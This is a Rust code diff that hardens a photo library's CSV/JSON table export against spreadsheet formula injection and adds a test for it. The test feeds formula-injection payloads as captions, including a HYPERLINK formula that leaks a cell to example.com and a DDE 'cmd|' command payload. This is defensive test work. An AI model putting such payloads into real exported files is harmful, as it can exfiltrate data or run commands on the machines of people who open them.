@@ -1,11 +1,14 @@
 //! Photos with what is known of them, as CSV or JSON.
 
+use std::borrow::Cow;
 use std::io::Write;
 use std::path::Path;
 
 use serde::Serialize;
 use sightline_catalog::PhotoId;
 
+use crate::foreign_text::for_table;
+use crate::new_file::new_file_beside;
 use crate::{Engine, EngineError};
 
 /// A file of the library in an exported table.
@@ -27,56 +30,57 @@ struct Record {
     keywords: Vec<String>,
 }
 
-/// The same without a list in it, for tables.
+/// The same without a list in it, for tables, where no text is a formula.
 #[derive(Debug, Serialize)]
 struct Row<'a> {
-    path: &'a str,
-    taken_at: Option<&'a str>,
+    path: Cow<'a, str>,
+    taken_at: Option<Cow<'a, str>>,
     date_source: Option<&'static str>,
-    camera: Option<&'a str>,
-    lens: Option<&'a str>,
+    camera: Option<Cow<'a, str>>,
+    lens: Option<Cow<'a, str>>,
     width: u32,
     height: u32,
     latitude: Option<f64>,
     longitude: Option<f64>,
-    place: Option<&'a str>,
+    place: Option<Cow<'a, str>>,
     rating: Option<i8>,
-    format: &'a str,
-    caption: Option<&'a str>,
+    format: Cow<'a, str>,
+    caption: Option<Cow<'a, str>>,
     keywords: String,
 }
 
 impl<'a> From<&'a Record> for Row<'a> {
     fn from(record: &'a Record) -> Self {
+        let cell = |text: &'a Option<String>| text.as_deref().map(for_table);
         Self {
-            path: &record.path,
-            taken_at: record.taken_at.as_deref(),
+            path: for_table(&record.path),
+            taken_at: cell(&record.taken_at),
             date_source: record.date_source,
-            camera: record.camera.as_deref(),
-            lens: record.lens.as_deref(),
+            camera: cell(&record.camera),
+            lens: cell(&record.lens),
             width: record.width,
             height: record.height,
             latitude: record.latitude,
             longitude: record.longitude,
-            place: record.place.as_deref(),
+            place: cell(&record.place),
             rating: record.rating,
-            format: &record.format,
-            caption: record.caption.as_deref(),
-            keywords: record.keywords.join("; "),
+            format: for_table(&record.format),
+            caption: cell(&record.caption),
+            keywords: for_table(&record.keywords.join("; ")).into_owned(),
         }
     }
 }
 
 impl Engine {
     /// Writes a table of photos, whole or not at all: path, date and where that comes from, camera, size, place, rating, caption, keywords. JSON (an
-    /// array of objects) where the file's name ends in `.json`, else CSV (RFC 4180, UTF-8).
+    /// array of objects) where the file's name ends in `.json`, else CSV (RFC 4180, UTF-8), where a text that would be a
+    /// formula has an apostrophe before it.
     ///
     /// # Errors
     /// When the file cannot be written or the library not be read.
     pub fn export_table(&self, photos: &[PhotoId], file: &Path) -> Result<(), EngineError> {
         let io = |source: std::io::Error| EngineError::Io { path: file.into(), source };
-        let folder = file.parent().filter(|folder| !folder.as_os_str().is_empty()).unwrap_or(Path::new("."));
-        let mut whole = tempfile::NamedTempFile::new_in(folder).map_err(io)?;
+        let mut whole = new_file_beside(file).map_err(io)?;
         let mut records = Vec::new();
         for photo in photos {
             records.extend(self.records(*photo)?);
@@ -173,5 +177,29 @@ mod tests {
         assert_eq!(list[0]["keywords"], serde_json::json!(["dog", "lake"]));
         assert_eq!((&list[0]["caption"], &list[0]["camera"]), (&"Rex, \"the\" dog".into(), &serde_json::Value::Null));
         assert_eq!(engine.export_table(&[], Path::new("/no/such/folder/t.csv")).unwrap_err().code(), "io");
+    }
+    #[test]
+    fn no_text_of_a_table_is_a_formula_and_everybody_may_read_it_who_may_read_new_files() {
+        let world = World::new();
+        world.photo("a.jpg", RED, 0);
+        world.index();
+        let engine = world.engine();
+        let photos = engine.browse(&Default::default(), sightline_catalog::DateOrder::NewestFirst).unwrap();
+        let table = world.photos().with_file_name("t.csv");
+        for formula in ["=HYPERLINK(\"http://example.com/?\"&A1,\"open\")", "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)"] {
+            engine.write_caption(photos[0], formula).unwrap();
+            engine.export_table(&photos, &table).unwrap();
+            let mut rows = csv::Reader::from_path(&table).unwrap();
+            let row = rows.records().next().unwrap().unwrap();
+            assert_eq!(row[12], format!("'{formula}"));
+        }
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            let new = table.with_file_name("new");
+            std::fs::write(&new, "").unwrap();
+            let mode = |file: &Path| file.metadata().unwrap().permissions().mode() & 0o777;
+            assert_eq!(mode(&table), mode(&new));
+        }
     }
 }
